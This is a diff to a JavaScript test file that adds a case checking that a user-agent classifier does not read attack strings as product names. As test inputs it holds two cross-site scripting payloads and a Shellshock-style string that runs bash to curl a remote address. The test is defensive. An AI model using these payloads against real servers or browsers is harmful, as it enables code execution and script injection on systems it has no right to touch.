@@ -89,6 +89,12 @@ describe('client classification', () => {
     });
   });
 
+  it('does not take a payload for a product name', () => {
+    expect(client('<script>alert(1)</script>').name).toBeUndefined();
+    expect(client('() { :; }; /bin/bash -c "curl http://198.51.100.9/x"').name).toBeUndefined();
+    expect(client('Mozilla/5.0 (X11; Linux x86_64) <img src=x onerror=alert(1)>').name).toBeUndefined();
+  });
+
   it('says when a crawler address cannot be judged', () => {
     expect(
       client('Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)', '1.2.3.4').reason,
